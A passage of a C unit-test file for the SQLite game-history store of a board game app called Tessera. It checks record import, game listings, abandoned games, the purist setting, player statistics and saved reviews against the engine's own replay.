      g_autofree char *reason_text = json_to_string (reason, FALSE);

      position = i > 0 && scores[i - 1].event == scores[i].event ? position + 1 : 0;
      g_string_append_printf (scoring_rows, "%u|%u|%u|%d|%s|%s\n", scores[i].event, position, scores[i].player,
                              scores[i].points, tessera_category_name (scores[i].category), reason_text);
    }
  *events = g_string_free (event_rows, FALSE);
  *scorings = g_string_free (scoring_rows, FALSE);
}

#define EVENT_COLUMNS "sequence, event"
#define SCORING_COLUMNS "sequence, position, seat, points, category, reason"
#define GAME_COLUMNS "state, sets, rules, crop_circle_tiles, box, played, purist"
#define SEAT_COLUMNS "seat, player, color, name, final_score, rank, road, city, cloister, farm, wheel, crown, ransom, adjust"

/* Everything the history keeps of game @game_id but when it ended (the time of the end event
 * when the record does not say). */
static char *
game_history (const char *path,
              gint64      game_id)
{
  g_autofree char *events = game_rows (path, EVENT_COLUMNS ", " SCORING_COLUMNS, "events LEFT JOIN score_events USING (game, sequence)",
                                       "game", game_id, "sequence, position");
  g_autofree char *game = game_rows (path, GAME_COLUMNS ", imported", "games", "id", game_id, "id");
  g_autofree char *seats = game_rows (path, SEAT_COLUMNS, "game_players", "game", game_id, "seat");

  return g_strconcat (events, game, seats, NULL);
}

/* Imports one fixture record (read from its file, as tessera-cli import reads it) and checks
 * the history against the engine's replay of it and against the same game stored event by
 * event as the app stores it: the same events, scorings, results, and a fingerprint that
 * recognises the record as the history gives it back. A record the engine refuses is refused
 * with the engine's message, and nothing of it is stored. */
static void
check_fixture_import (const char   *path,
                      TesseraStore *store,
                      const char   *dir,
                      const char   *file)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(GError) refused = NULL;
  g_autoptr(TesseraRecord) record = tessera_test_load_record (dir, file, &error);
  g_autoptr(TesseraGame) game = NULL;
  g_autoptr(TesseraRecord) stored = NULL;
  g_autofree char *counts_before = NULL;
  g_autofree char *counts_after = NULL;
  g_autofree char *events = NULL;
  g_autofree char *scorings = NULL;
  g_autofree char *found = NULL;
  g_autofree char *stored_text = NULL;
  g_autofree char *print = NULL;
  g_autofree char *query = NULL;
  gboolean already = FALSE;
  gint64 game_id, played_id;

  if (record == NULL)
    return;   /* the reader refuses it: the history never sees it */
  g_test_message ("importing %s/%s", dir, file);
  game = tessera_game_new_from_record (record, G_MAXUINT, &refused);
  counts_before = count_rows (path);
  game_id = tessera_store_import_record (store, record, &already, &error);
  if (game == NULL)
    {
      g_assert_cmpint (game_id, ==, 0);
      g_assert_error (error, refused->domain, refused->code);
      g_assert_cmpstr (error->message, ==, refused->message);
      counts_after = count_rows (path);
      g_assert_cmpstr (counts_after, ==, counts_before);
      return;
    }
  g_assert_no_error (error);
  g_assert_cmpint (game_id, >, 0);
  g_assert_false (already);

  expected_rows (game, &events, &scorings);
  found = game_rows (path, EVENT_COLUMNS, "events", "game", game_id, "sequence");
  g_assert_cmpstr (found, ==, events);
  g_free (found);
  found = game_rows (path, SCORING_COLUMNS, "score_events", "game", game_id, "sequence, position");
  g_assert_cmpstr (found, ==, scorings);
  g_free (found);
  found = game_rows (path, "state", "games", "id", game_id, "id");
  g_assert_cmpstr (found, ==, tessera_game_is_finished (game) ? "finished\n" : "in-progress\n");
  for (guint seat = 0; seat < tessera_game_get_n_players (game); seat++)
    {
      g_autofree char *sql = g_strdup_printf ("SELECT final_score, rank IS NOT NULL FROM game_players "
                                              "WHERE game = %" G_GINT64_FORMAT " AND seat = %u", game_id, seat);
      g_autofree char *answer = query_rows (path, sql);
      g_autofree char *result = tessera_game_is_finished (game) ? g_strdup_printf ("%d|1\n", tessera_game_get_score (game, seat))
                                                                : g_strdup ("NULL|0\n");

      g_assert_cmpstr (answer, ==, result);
    }

  /* Recognised by the record as the history gives it back. */
  stored = tessera_store_load_record (store, game_id, &error);
  g_assert_no_error (error);
  stored_text = tessera_record_to_data (stored);
  print = g_compute_checksum_for_string (G_CHECKSUM_SHA256, stored_text, -1);
  g_free (found);
  found = game_rows (path, "imported", "games", "id", game_id, "id");
  query = g_strdup_printf ("%s\n", print);
  g_assert_cmpstr (found, ==, query);
  g_assert_cmpint (tessera_store_import_record (store, stored, &already, &error), ==, game_id);
  g_assert_no_error (error);
  g_assert_true (already);

  /* A correction that changes nothing replays the game and leaves its history as it was. */
  if (record->events->len > 0)
    {
      guint index = record->events->len / 2;
      g_autofree char *before = game_history (path, game_id);
      g_autofree char *after = NULL;
      g_autoptr(TesseraGame) corrected = NULL;

      corrected = tessera_store_replace_event (store, game_id, index, g_ptr_array_index (record->events, index), &error);
      g_assert_no_error (error);
      g_assert_cmpuint (tessera_game_get_n_events (corrected), ==, tessera_game_get_n_events (game));
      g_assert_cmpuint (tessera_game_get_n_score_events (corrected), ==, tessera_game_get_n_score_events (game));
      for (guint seat = 0; seat < tessera_game_get_n_players (game); seat++)
        g_assert_cmpint (tessera_game_get_score (corrected, seat), ==, tessera_game_get_score (game, seat));
      after = game_history (path, game_id);
      g_assert_cmpstr (after, ==, before);
    }

  /* The same history as the game entered move by move. */
  played_id = store_game_as_played (store, record);
  {
    static const struct
    {
      const char *columns;
      const char *table;
      const char *key;
      const char *order;
    } compared[] = {
      { EVENT_COLUMNS, "events", "game", "sequence" },
      { SCORING_COLUMNS, "score_events", "game", "sequence, position" },
      { GAME_COLUMNS, "games", "id", "id" },
      { SEAT_COLUMNS, "game_players", "game", "seat" },
    };

    for (guint i = 0; i < G_N_ELEMENTS (compared); i++)
      {
        g_autofree char *imported = game_rows (path, compared[i].columns, compared[i].table, compared[i].key, game_id, compared[i].order);
        g_autofree char *as_played = game_rows (path, compared[i].columns, compared[i].table, compared[i].key, played_id, compared[i].order);

        g_assert_cmpstr (imported, ==, as_played);
      }
  }
  g_assert_true (tessera_store_delete_game (store, played_id, &error));
  g_assert_no_error (error);
}

/* Every fixture record imported: see check_fixture_import(). */
static void
test_import_fixtures (Fixture       *fixture,
                      gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraStore) store = tessera_store_open (fixture->path, &error);
  g_autofree char *records = g_test_build_filename (G_TEST_DIST, "records", NULL);
  g_autoptr(GDir) dirs = g_dir_open (records, 0, &error);
  g_autoptr(GPtrArray) names = g_ptr_array_new_with_free_func (g_free);
  guint n_imported = 0;
  const char *dir;

  g_assert_no_error (error);
  while ((dir = g_dir_read_name (dirs)) != NULL)
    {
      g_autofree char *folder = g_build_filename (records, dir, NULL);
      g_autoptr(GDir) files = g_dir_open (folder, 0, NULL);
      const char *file;

      while (files != NULL && (file = g_dir_read_name (files)) != NULL)
        if (g_str_has_suffix (file, ".json"))
          g_ptr_array_add (names, g_build_filename (dir, file, NULL));
    }
  /* In a fixed order: a record the history holds already is recognised, not stored again. */
  g_ptr_array_sort (names, (GCompareFunc) tessera_test_compare_strings);
  for (guint i = 0; i < names->len; i++)
    {
      g_autofree char *name = g_strdup (g_ptr_array_index (names, i));
      char *slash = strchr (name, G_DIR_SEPARATOR);

      *slash = '\0';
      check_fixture_import (fixture->path, store, name, slash + 1);
      n_imported++;
    }
  g_assert_cmpuint (n_imported, >, 100);
}

/* An abandoned game keeps its events and counts in no statistics. */
static void
test_abandon (Fixture       *fixture,
              gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraStore) store = tessera_store_open (fixture->path, &error);
  g_autoptr(TesseraRecord) record = tessera_random_game (22, 2);
  g_autoptr(TesseraPlayerStats) anna = NULL;
  gboolean already;
  gint64 game_id;

  g_assert_no_error (error);
  g_ptr_array_set_size (record->events, 20);
  game_id = tessera_store_import_record (store, record, &already, &error);
  g_assert_no_error (error);
  g_assert_true (tessera_store_abandon_game (store, game_id, &error));
  g_assert_no_error (error);
  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM games WHERE state = 'abandoned'"), ==, 1);
  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM events"), ==, 20);
  anna = tessera_store_get_player_stats (store, "Anna", &error);
  g_assert_no_error (error);
  g_assert_cmpuint (anna->n_games, ==, 0);
  g_assert_false (tessera_store_abandon_game (store, game_id, &error));
  g_assert_error (error, TESSERA_STORE_ERROR, TESSERA_STORE_ERROR_FAILED);
}

/* Imports game @seed (@n_events of it, or all with 0), played at @start (none with NULL). */
static gint64
import_game_played_at (TesseraStore *store,
                       guint32       seed,
                       guint         n_events,
                       const char   *start)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraRecord) record = tessera_random_game (seed, 2 + seed % 4);
  gboolean already = TRUE;
  gint64 game_id;

  if (n_events > 0)
    g_ptr_array_set_size (record->events, n_events);
  if (start != NULL)
    {
      record->played = g_new0 (TesseraPlayed, 1);
      record->played->start = g_strdup (start);
      record->played->place = g_strdup_printf ("Table %u", seed);
    }
  game_id = tessera_store_import_record (store, record, &already, &error);
  g_assert_no_error (error);
  g_assert_false (already);
  return game_id;
}

static void
assert_same_summary (const TesseraGameSummary *found,
                     const TesseraGameSummary *expected)
{
  g_assert_cmpint (found->id, ==, expected->id);
  g_assert_cmpstr (found->started, ==, expected->started);
  g_assert_cmpstr (found->ended, ==, expected->ended);
  g_assert_cmpstr (found->state, ==, expected->state);
  g_assert_cmpuint (found->n_events, ==, expected->n_events);
  g_assert_cmpint (found->purist, ==, expected->purist);
  g_assert_cmpuint (found->sets->len, ==, expected->sets->len);
  for (guint i = 0; i < found->sets->len; i++)
    g_assert_cmpstr (g_ptr_array_index (found->sets, i), ==, g_ptr_array_index (expected->sets, i));
  g_assert_cmpint (found->played == NULL, ==, expected->played == NULL);
  if (found->played != NULL)
    {
      g_assert_cmpstr (found->played->start, ==, expected->played->start);
      g_assert_cmpstr (found->played->end, ==, expected->played->end);
      g_assert_cmpstr (found->played->place, ==, expected->played->place);
    }
  g_assert_cmpuint (found->seats->len, ==, expected->seats->len);
  for (guint i = 0; i < found->seats->len; i++)
    {
      const TesseraGameSeat *a = &g_array_index (found->seats, TesseraGameSeat, i);
      const TesseraGameSeat *b = &g_array_index (expected->seats, TesseraGameSeat, i);

      g_assert_cmpstr (a->name, ==, b->name);
      g_assert_cmpstr (a->color, ==, b->color);
      g_assert_cmpint (a->has_result, ==, b->has_result);
      g_assert_cmpint (a->final_score, ==, b->final_score);
      g_assert_cmpuint (a->rank, ==, b->rank);
    }
}

/* The whole list: every game once, the oldest first, each with its own players (the games'
 * ids have gaps where one was deleted), results, events and when and where. */
static void
test_list_games (Fixture       *fixture,
                 gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraStore) store = tessera_store_open (fixture->path, &error);
  g_autoptr(GPtrArray) games = NULL;
  gint64 ids[6];

  g_assert_no_error (error);
  games = tessera_store_list_games (store, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (games->len, ==, 0);
  g_clear_pointer (&games, g_ptr_array_unref);

  for (guint i = 0; i < G_N_ELEMENTS (ids); i++)
    ids[i] = import_game_played_at (store, 40 + i, i % 3 == 2 ? 9 : 0, i % 2 == 0 ? "2025-03-01T20:00:00+01:00" : NULL);
  g_assert_true (tessera_store_delete_game (store, ids[1], &error));
  g_assert_no_error (error);
  games = tessera_store_list_games (store, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (games->len, ==, G_N_ELEMENTS (ids) - 1);
  for (guint i = 0, g = 0; i < G_N_ELEMENTS (ids); i++)
    {
      g_autoptr(TesseraRecord) record = NULL;
      const TesseraGameSummary *summary;

      if (i == 1)
        continue;
      summary = g_ptr_array_index (games, g++);
      record = tessera_store_load_record (store, ids[i], &error);
      g_assert_no_error (error);
      g_assert_cmpint (summary->id, ==, ids[i]);
      g_assert_cmpstr (summary->state, ==, i % 3 == 2 ? "in-progress" : "finished");
      g_assert_cmpuint (summary->n_events, ==, record->events->len);
      g_assert_cmpuint (summary->seats->len, ==, record->players->len);
      for (guint s = 0; s < summary->seats->len; s++)
        {
          const TesseraGameSeat *seat = &g_array_index (summary->seats, TesseraGameSeat, s);

          g_assert_cmpstr (seat->name, ==, g_array_index (record->players, TesseraPlayerInfo, s).name);
          g_assert_cmpstr (seat->color, ==, g_array_index (record->players, TesseraPlayerInfo, s).color);
          g_assert_cmpint (seat->has_result, ==, i % 3 != 2);
        }
      g_assert_cmpint (summary->played != NULL, ==, i % 2 == 0);
      if (summary->played != NULL)
        {
          g_autofree char *place = g_strdup_printf ("Table %u", 40 + i);

          g_assert_cmpstr (summary->played->start, ==, "2025-03-01T20:00:00+01:00");
          g_assert_cmpstr (summary->played->place, ==, place);
        }
    }
}

/* The start page's games: every game in progress and the latest finished ones by when they
 * were played (the stored last first where two began together), the newest first, as the
 * whole list has them; abandoned games only in the count. */
static void
test_recent_games (Fixture       *fixture,
                   gconstpointer  data)
{
  static const struct {
    guint       n_events;    /* 0: finished */
    const char *start;
  } games[] = {
    { 0, "2024-05-01T20:00:00+02:00" },
    { 0, "2026-01-10T19:00:00+01:00" },
    { 12, "2019-02-02T20:00:00+01:00" },  /* in progress for years */
    { 0, "2026-01-10T19:00:00+01:00" },   /* begun with the one before */
    { 0, NULL },                          /* dated as stored: today */
    { 0, "2020-07-07T15:00:00+02:00" },
    { 30, "2026-02-01T18:00:00+01:00" },
    { 0, "2026-01-10T18:59:00+01:00" },
    { 8, NULL },                          /* abandoned */
  };
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraStore) store = tessera_store_open (fixture->path, &error);
  g_autoptr(GPtrArray) all = NULL;
  g_autoptr(GPtrArray) none = NULL;
  guint n_games = 99;

  g_assert_no_error (error);
  none = tessera_store_list_recent_games (store, 8, &n_games, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (none->len, ==, 0);
  g_assert_cmpuint (n_games, ==, 0);

  for (guint i = 0; i < G_N_ELEMENTS (games); i++)
    {
      gint64 id = import_game_played_at (store, 60 + i, games[i].n_events, games[i].start);

      if (i == G_N_ELEMENTS (games) - 1)
        {
          g_assert_true (tessera_store_abandon_game (store, id, &error));
          g_assert_no_error (error);
        }
    }
  all = tessera_store_list_games (store, &error);
  g_assert_no_error (error);
  g_ptr_array_sort (all, tessera_game_summary_compare_newest);

  for (guint n_finished = 0; n_finished <= 7; n_finished++)
    {
      g_autoptr(GPtrArray) recent = tessera_store_list_recent_games (store, n_finished, &n_games, &error);
      guint finished_seen = 0, r = 0;

      g_assert_no_error (error);
      g_assert_cmpuint (n_games, ==, G_N_ELEMENTS (games));
      /* The whole list, newest first, less the finished games past the first n_finished and
       * the abandoned one. */
      for (guint i = 0; i < all->len; i++)
        {
          const TesseraGameSummary *expected = g_ptr_array_index (all, i);

          if (g_str_equal (expected->state, "abandoned"))
            continue;
          if (g_str_equal (expected->state, "finished") && finished_seen++ >= n_finished)
            continue;
          g_assert_cmpuint (r, <, recent->len);
          assert_same_summary (g_ptr_array_index (recent, r++), expected);
        }
      g_assert_cmpuint (r, ==, recent->len);
      g_assert_cmpuint (recent->len, ==, 2 + MIN (n_finished, 6));
    }

  /* Without the count. */
  {
    g_autoptr(GPtrArray) recent = tessera_store_list_recent_games (store, 1, NULL, &error);

    g_assert_no_error (error);
    g_assert_cmpuint (recent->len, ==, 3);
  }
}

/* Playing without aids is the table's choice, kept with the game: off for a new or imported
 * game, on once set, in the list of games too, and a game that is not there says so. */
static void
test_purist (Fixture       *fixture,
             gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraStore) store = tessera_store_open (fixture->path, &error);
  g_autoptr(TesseraRecord) record = tessera_random_game (23, 2);
  g_autoptr(TesseraRecord) other = tessera_random_game (24, 3);
  g_autoptr(GPtrArray) games = NULL;
  gboolean purist = TRUE;
  gboolean already;
  gint64 game_id;
  gint64 other_id;

  g_assert_no_error (error);
  game_id = tessera_store_import_record (store, record, &already, &error);
  g_assert_no_error (error);
  other_id = tessera_store_import_record (store, other, &already, &error);
  g_assert_no_error (error);
  g_assert_true (tessera_store_get_purist (store, game_id, &purist, &error));
  g_assert_no_error (error);
  g_assert_false (purist);

  g_assert_true (tessera_store_set_purist (store, game_id, TRUE, &error));
  g_assert_no_error (error);
  g_assert_true (tessera_store_get_purist (store, game_id, &purist, &error));
  g_assert_true (purist);
  g_assert_true (tessera_store_get_purist (store, other_id, &purist, &error));
  g_assert_false (purist);
  games = tessera_store_list_games (store, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (games->len, ==, 2);
  g_assert_true (((TesseraGameSummary *) g_ptr_array_index (games, 0))->purist);
  g_assert_false (((TesseraGameSummary *) g_ptr_array_index (games, 1))->purist);

  g_assert_true (tessera_store_set_purist (store, game_id, FALSE, &error));
  g_assert_true (tessera_store_get_purist (store, game_id, &purist, &error));
  g_assert_false (purist);

  g_assert_false (tessera_store_set_purist (store, 99, TRUE, &error));
  g_assert_error (error, TESSERA_STORE_ERROR, TESSERA_STORE_ERROR_NOT_FOUND);
  g_assert_nonnull (strstr (error->message, "99"));
  g_clear_error (&error);
  g_assert_false (tessera_store_get_purist (store, 99, &purist, &error));
  g_assert_error (error, TESSERA_STORE_ERROR, TESSERA_STORE_ERROR_NOT_FOUND);
}

/* Statistics -------------------------------------------------------------------------------- */

/* What the statistics should say about one player, worked out from the records themselves. */
typedef struct
{
  guint  n_games;
  guint  n_wins;
  int    total;
  int    best;
  int    category_total[TESSERA_N_CATEGORIES];
} Expected;

/* Every statistic against the same figures computed here from the records by the engine, on
 * finished games of 2 to 5 players (the random games' players are Anna, Bram, Carmen, Daan and
 * Eva, in that order), with one unfinished game that must not count. */
static void
test_statistics (Fixture       *fixture,
                 gconstpointer  data)
{
  static const char *names[] = { "Anna", "Bram", "Carmen", "Daan", "Eva" };
  Expected expected[G_N_ELEMENTS (names)] = { { 0 } };
  TesseraHeadToHead anna_bram = { 0 };
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraStore) store = tessera_store_open (fixture->path, &error);
  g_autoptr(GPtrArray) list = NULL;
  g_autoptr(GArray) months = NULL;
  g_autoptr(GArray) progression = NULL;
  TesseraHeadToHead found_h2h;
  TesseraHeadToHead anna_against[G_N_ELEMENTS (names)] = { { 0 } };
  int anna_scores[16];
  guint n_anna_games = 0;
  double all_category_total[TESSERA_N_CATEGORIES] = { 0 };
  guint n_finished_seats = 0;
  gint64 last_game = 0;
  guint n_finished = 0;

  g_assert_no_error (error);
  for (guint32 seed = 40; seed < 52; seed++)
    {
      g_autoptr(TesseraRecord) record = tessera_random_game (seed, 2 + seed % 4);
      g_autoptr(TesseraGame) game = NULL;
      gboolean already;
      guint n_players;
      int best = G_MININT;

      /* One game stops before its end: it is in progress and counts for nothing. */
      if (seed == 51)
        g_ptr_array_set_size (record->events, record->events->len / 2);
      game = tessera_game_new_from_record (record, G_MAXUINT, &error);
      g_assert_no_error (error);
      last_game = tessera_store_import_record (store, record, &already, &error);
      g_assert_no_error (error);
      if (!tessera_game_is_finished (game))
        continue;
      n_finished++;
      n_players = tessera_game_get_n_players (game);
      for (guint p = 0; p < n_players; p++)
        best = MAX (best, tessera_game_get_score (game, p));
      for (guint p = 0; p < n_players; p++)
        {
          Expected *e = &expected[p];
          int score = tessera_game_get_score (game, p);

          e->n_games++;
          e->n_wins += score == best;
          e->total += score;
          e->best = e->n_games == 1 ? score : MAX (e->best, score);
          for (guint c = 0; c < TESSERA_N_CATEGORIES; c++)
            e->category_total[c] += tessera_game_get_category_score (game, p, c);
        }
      /* For Anna's profile: her games, her opponents, and everyone's averages beside hers. */
      anna_scores[n_anna_games++] = tessera_game_get_score (game, 0);
      for (guint p = 1; p < n_players; p++)
        {
          anna_against[p].n_games++;
          anna_against[p].n_first_ahead += tessera_game_get_score (game, 0) > tessera_game_get_score (game, p);
          anna_against[p].n_second_ahead += tessera_game_get_score (game, p) > tessera_game_get_score (game, 0);
          anna_against[p].n_level += tessera_game_get_score (game, 0) == tessera_game_get_score (game, p);
        }
      for (guint p = 0; p < n_players; p++)
        for (guint c = 0; c < TESSERA_N_CATEGORIES; c++)
          all_category_total[c] += tessera_game_get_category_score (game, p, c);
      n_finished_seats += n_players;
      anna_bram.n_games++;
      anna_bram.n_first_ahead += tessera_game_get_score (game, 0) > tessera_game_get_score (game, 1);
      anna_bram.n_second_ahead += tessera_game_get_score (game, 1) > tessera_game_get_score (game, 0);
      anna_bram.n_level += tessera_game_get_score (game, 0) == tessera_game_get_score (game, 1);
    }
  g_assert_cmpuint (n_finished, ==, 11);

  list = tessera_store_list_player_stats (store, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (list->len, ==, G_N_ELEMENTS (names));
  for (guint i = 0; i < list->len; i++)
    {
      const TesseraPlayerStats *listed = g_ptr_array_index (list, i);
      g_autoptr(TesseraPlayerStats) stats = tessera_store_get_player_stats (store, listed->name, &error);
      guint p = 0;

      g_assert_no_error (error);
      while (!g_str_equal (names[p], listed->name))
        p++;
      g_assert_cmpuint (stats->n_games, ==, expected[p].n_games);
      g_assert_cmpuint (stats->n_wins, ==, expected[p].n_wins);
      g_assert_cmpuint (listed->n_wins, ==, expected[p].n_wins);
      g_assert_cmpint (stats->best_score, ==, expected[p].best);
      g_assert_cmpfloat_with_epsilon (stats->average_score, (double) expected[p].total / expected[p].n_games, 1e-9);
      for (guint c = 0; c < TESSERA_N_CATEGORIES; c++)
        g_assert_cmpfloat_with_epsilon (stats->category_average[c],
                                        (double) expected[p].category_total[c] / expected[p].n_games, 1e-9);
      /* Most wins first. */
      if (i > 0)
        g_assert_cmpuint (((TesseraPlayerStats *) g_ptr_array_index (list, i - 1))->n_wins, >=, listed->n_wins);
    }

  g_assert_true (tessera_store_get_head_to_head (store, "anna", "BRAM", &found_h2h, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (found_h2h.n_games, ==, anna_bram.n_games);
  g_assert_cmpuint (found_h2h.n_first_ahead, ==, anna_bram.n_first_ahead);
  g_assert_cmpuint (found_h2h.n_second_ahead, ==, anna_bram.n_second_ahead);
  g_assert_cmpuint (found_h2h.n_level, ==, anna_bram.n_level);
  g_assert_false (tessera_store_get_head_to_head (store, "Anna", "Zoe", &found_h2h, &error));
  g_assert_error (error, TESSERA_STORE_ERROR, TESSERA_STORE_ERROR_NOT_FOUND);
  g_assert_nonnull (strstr (error->message, "no player Zoe"));
  g_clear_error (&error);

  /* Anna's profile: her finished games newest first, each opponent, everyone's averages. */
  {
    g_autoptr(GArray) games = tessera_store_list_player_games (store, "ANNA", &error);
    g_autoptr(GArray) opponents = tessera_store_list_opponents (store, "anna", &error);
    double averages[TESSERA_N_CATEGORIES];

    g_assert_no_error (error);
    g_assert_cmpuint (games->len, ==, n_anna_games);
    for (guint i = 0; i < games->len; i++)
      {
        const TesseraPlayerGame *game = &g_array_index (games, TesseraPlayerGame, i);

        g_assert_cmpint (game->score, ==, anna_scores[n_anna_games - 1 - i]);
        g_assert_cmpstr (game->color, ==, "red");
        g_assert_cmpuint (game->n_players, >=, 2);
        g_assert_cmpuint (game->rank, >=, 1);
        if (i > 0)
          g_assert_cmpint (game->game_id, <, g_array_index (games, TesseraPlayerGame, i - 1).game_id);
      }
    /* Bram played every game, Eva only the five-player ones. */
    g_assert_cmpuint (opponents->len, ==, G_N_ELEMENTS (names) - 1);
    for (guint i = 0; i < opponents->len; i++)
      {
        const TesseraOpponentRecord *record = &g_array_index (opponents, TesseraOpponentRecord, i);
        guint p = 1;

        while (!g_str_equal (names[p], record->opponent))
          p++;
        g_assert_cmpuint (record->n_games, ==, anna_against[p].n_games);
        g_assert_cmpuint (record->n_ahead, ==, anna_against[p].n_first_ahead);
        g_assert_cmpuint (record->n_behind, ==, anna_against[p].n_second_ahead);
        g_assert_cmpuint (record->n_level, ==, anna_against[p].n_level);
        if (i > 0)
          g_assert_cmpuint (g_array_index (opponents, TesseraOpponentRecord, i - 1).n_games, >=, record->n_games);
      }
    g_assert_true (tessera_store_get_category_averages (store, averages, &error));
    g_assert_no_error (error);
    for (guint c = 0; c < TESSERA_N_CATEGORIES; c++)
      g_assert_cmpfloat_with_epsilon (averages[c], all_category_total[c] / n_finished_seats, 1e-9);
    g_assert_null (tessera_store_list_player_games (store, "Zoe", &error));
    g_assert_cmpstr (error->message, ==, "the history has no player Zoe");
    g_clear_error (&error);
  }

  months = tessera_store_count_games_by_month (store, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (months->len, ==, 1);
  g_assert_cmpuint (g_array_index (months, TesseraMonthCount, 0).n_games, ==, n_finished);

  /* The last game stopped halfway: its totals climb event by event to the scores it has. */
  progression = tessera_store_get_score_progression (store, last_game, &error);
  g_assert_no_error (error);
  {
    g_autoptr(TesseraRecord) record = tessera_store_load_record (store, last_game, &error);
    g_autoptr(TesseraGame) game = tessera_game_new_from_record (record, G_MAXUINT, &error);
    int last_total[TESSERA_MAX_PLAYERS] = { 0 };

    g_assert_no_error (error);
    g_assert_cmpuint (progression->len, >, 0);
    for (guint i = 0; i < progression->len; i++)
      {
        const TesseraScorePoint *point = &g_array_index (progression, TesseraScorePoint, i);
        g_autoptr(TesseraGame) then = tessera_game_new_from_record (record, point->sequence + 1, &error);

        g_assert_no_error (error);
        g_assert_cmpint (point->total, ==, tessera_game_get_score (then, point->seat));
        last_total[point->seat] = point->total;
      }
    for (guint p = 0; p < tessera_game_get_n_players (game); p++)
      g_assert_cmpint (last_total[p], ==, tessera_game_get_score (game, p));
  }
  g_assert_null (tessera_store_get_score_progression (store, last_game + 1, &error));
  g_assert_error (error, TESSERA_STORE_ERROR, TESSERA_STORE_ERROR_NOT_FOUND);
}

/* Game reviews ------------------------------------------------------------------------------ */

/* tests/records/review/@name imported, with an "end" after its turns when @ended (then it is
 * finished and counts in the statistics): its game's id. */
static gint64
import_review_record (TesseraStore *store,
                      const char   *name,
                      gboolean      ended)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraRecord) record = tessera_test_load_record ("review", name, NULL);
  gboolean already = TRUE;
  gint64 game_id;

  if (ended)
    g_ptr_array_add (record->events, tessera_event_new_end ());
  game_id = tessera_store_import_record (store, record, &already, &error);
  g_assert_no_error (error);
  g_assert_false (already);
  return game_id;
}

/* Game @game_id reviewed as the history gives it back, and the review kept with it. */
static TesseraReview *
review_stored_game (TesseraStore *store,
                    gint64        game_id)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraRecord) record = tessera_store_load_record (store, game_id, &error);
  g_autoptr(TesseraReview) review = NULL;

  g_assert_no_error (error);
  review = tessera_review_new (record, NULL, NULL, NULL, &error);
  g_assert_no_error (error);
  g_assert_true (tessera_store_save_review (store, game_id, review, &error));
  g_assert_no_error (error);
  return g_steal_pointer (&review);
}

/* Game @game_id's review read back, or %NULL when it has none. */
static TesseraReview *
load_stored_review (TesseraStore *store,
                    gint64        game_id)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraRecord) record = tessera_store_load_record (store, game_id, &error);
  TesseraReview *review;

  g_assert_no_error (error);
  review = tessera_store_load_review (store, game_id, record, &error);
  g_assert_no_error (error);
  return review;
}

/* The rows game @game_id's review has in the history: its own and its seats'. */
static gint64
count_review_rows (const char *path,
                   gint64      game_id)
{
  g_autofree char *id = g_strdup_printf ("%" G_GINT64_FORMAT, game_id);
  g_autofree char *sql = g_strconcat ("SELECT (SELECT count (*) FROM reviews WHERE game = ", id,
                                      ") + (SELECT count (*) FROM review_players WHERE game = ", id, ")", NULL);

  return query_int (path, sql);
}

static void
assert_same_review (TesseraReview *found,
                    TesseraReview *expected)
{
  g_autoptr(JsonNode) found_json = tessera_review_to_stored_json (found);
  g_autoptr(JsonNode) expected_json = tessera_review_to_stored_json (expected);

  g_assert_true (json_node_equal (found_json, expected_json));
}

/* A review is kept with its game and read back as it was made; a game has none until one is
 * saved, and saving another replaces it. Each seat's figures are kept beside it. */
static void
test_review_round_trip (Fixture       *fixture,
                        gconstpointer  data)
{
  static const char * const files[] = { "closing-city.json", "tower-capture.json" };
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraStore) store = tessera_store_open (fixture->path, &error);
  g_autoptr(TesseraRecord) three_players = tessera_random_game (41, 3);
  g_autoptr(TesseraRecord) record = NULL;
  g_autoptr(TesseraReview) review = NULL;
  gint64 game_ids[G_N_ELEMENTS (files)];
  gint64 other_id;
  gboolean already;

  g_assert_no_error (error);
  for (guint i = 0; i < G_N_ELEMENTS (files); i++)
    {
      g_autoptr(TesseraReview) saved = NULL;
      g_autoptr(TesseraReview) loaded = NULL;
      const TesseraReviewPlayer *players;
      g_autofree char *method_sql = NULL;

      game_ids[i] = import_review_record (store, files[i], FALSE);
      g_assert_null (load_stored_review (store, game_ids[i]));
      saved = review_stored_game (store, game_ids[i]);
      loaded = load_stored_review (store, game_ids[i]);
      g_assert_nonnull (loaded);
      assert_same_review (loaded, saved);

      /* The seats' figures are the review's players', seat by seat. */
      players = tessera_review_get_players (saved);
      g_assert_cmpint (count_review_rows (fixture->path, game_ids[i]), ==, 1 + 2);
      for (guint p = 0; p < 2; p++)
        {
          g_autofree char *seat_sql = NULL;

          seat_sql = g_strdup_printf ("SELECT count (*) FROM review_players WHERE seat = %u AND lost = %.17g AND "
                                      "luck = %.17g AND accuracy = %.17g AND turns = %u AND game = %" G_GINT64_FORMAT,
                                      p, players[p].lost, players[p].luck, players[p].accuracy, players[p].n_turns,
                                      game_ids[i]);
          g_assert_cmpint (query_int (fixture->path, seat_sql), ==, 1);
        }
      method_sql = g_strdup_printf ("SELECT method = '%s' AND created LIKE '20%%Z' FROM reviews WHERE game = %" G_GINT64_FORMAT,
                                    TESSERA_ESTIMATE_METHOD, game_ids[i]);
      g_assert_cmpint (query_int (fixture->path, method_sql), ==, 1);
    }

  /* Saved again: one review still, its seats' figures written anew. */
  run_sql (fixture->path, "UPDATE review_players SET lost = 999");
  record = tessera_store_load_record (store, game_ids[0], &error);
  g_assert_no_error (error);
  review = load_stored_review (store, game_ids[0]);
